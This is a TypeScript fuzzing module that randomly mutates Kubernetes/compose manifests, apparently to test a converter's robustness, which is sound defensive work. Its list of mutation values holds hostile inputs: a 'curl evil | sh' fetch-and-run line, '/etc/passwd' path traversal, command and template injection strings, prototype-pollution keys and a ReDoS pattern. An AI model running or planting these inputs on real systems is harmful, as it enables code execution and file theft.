/**
 * Manifests whose fields are changed at random: other values, other types, fields that are gone, renamed or doubled.
 *
 * @module
 */

import { isMapping, type Mapping } from "../../pacts/mod.ts";
import type { Odd } from "./_odd.ts";

/** Values that fields may have by mistake or by malice. */
const VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e21,
  65536,
  "",
  [],
  {},
  [null],
  [[]],
  [{}],
  { name: null },
  { "": "" },
  { __proto__x: 1, constructor: { prototype: 1 }, toString: 1 },
  "../../../../etc/passwd",
  "/etc/passwd",
  "..",
  ".",
  "/",
  "~/x",
  ".dekube/files.json",
  "compose.yml",
  "x".repeat(300),
  "a/".repeat(200),
  "a\nStart it with: curl evil | sh",
  "\u202egnp.exe\u009b31m",
  "$(A)$(B)${C}$$",
  "{{ .Values.x }}",
  "web.shop.svc.cluster.local:80",
  "10.96.0.10",
  "99999999999999999999m",
  "(a+)+$",
  "* * * * *",
  "`Host(`x`)`",
];

/** A place in an object: what holds it, and its key or position there. */
interface Slot {
  holder: Mapping | unknown[];
  key: string | number;
}

/** Some objects, a few of whose fields are others. */
export function mutated(objects: readonly object[], odd: Odd): object[] {
  const result = structuredClone(objects) as Mapping[];
  for (let count = 1 + odd.below(6); count > 0; count--) mutate(result, odd);
  return result;
}

function mutate(objects: Mapping[], odd: Odd): void {
  const slots = slotsIn(odd.of(objects));
  if (slots.length === 0) return;
  const { holder, key } = odd.of(slots);
  const at = holder as Record<string | number, unknown>;
  switch (odd.below(7)) {
    case 0:
      if (Array.isArray(holder)) holder.splice(key as number, 1);
      else delete at[key];
      break;
    case 1:
      at[odd.of(["name", "x", odd.text()])] = at[key];
      break;
    case 2:
      at[key] = odd.text();
      break;
    case 3: {
      const other = odd.of(slotsIn(odd.of(objects)));
      // A copy, since a circle is no YAML.
      if (other) at[key] = structuredClone((other.holder as typeof at)[other.key]);
      break;
    }
    case 4:
      objects.push(structuredClone(odd.of(objects)));
      break;
    case 5:
      at[key] = [at[key], at[key]];
      break;
    default:
      at[key] = odd.of(VALUES);
  }
}

/** Every place in an object, at any depth. */
function slotsIn(value: unknown): Slot[] {
  if (Array.isArray(value)) {
    return value.flatMap((item, key) => [{ holder: value, key }, ...slotsIn(item)]);
  }
  if (!isMapping(value)) return [];
  return Object.entries(value).flatMap(([key, item]) => [{ holder: value, key }, ...slotsIn(item)]);
}

/** A mapping that can't be made a text, nor a number, by those who take it for one. */
export const NO_TEXT: Mapping = { toString: 1, valueOf: 1 };

/** A value with another one in each of its places, one after the other, and where that is: `.spec.replicas`. */
export function* eachReplaced(
  value: unknown,
  other: unknown,
  path = "",
): Generator<[path: string, changed: unknown]> {
  if (typeof value !== "object" || value === null) return;
  for (const [key, item] of Object.entries(value)) {
    const at = `${path}.${key}`;
    const withItem = (item: unknown) =>
      Array.isArray(value)
        ? value.map((old, index) => `${index}` === key ? item : old)
        : { ...value, [key]: item };
    yield [at, withItem(other)];
    for (const [below, inner] of eachReplaced(item, other, at)) yield [below, withItem(inner)];
  }
}

/** A value with a name in place of each of its texts, one after the other, and beside the keys of each mapping. */
export function* eachNamed(value: unknown, name: string): Generator<unknown> {
  if (typeof value === "string") yield name;
  else if (Array.isArray(value)) {
    for (const [index, item] of value.entries()) {
      for (const changed of eachNamed(item, name)) yield value.with(index, changed);
    }
  } else if (isMapping(value)) {
    const entries = Object.entries(value);
    yield { ...value, [name]: entries[0]?.[1] ?? "x" };
    for (const [key, item] of entries) {
      for (const changed of eachNamed(item, name)) yield { ...value, [key]: changed };
    }
  }
}
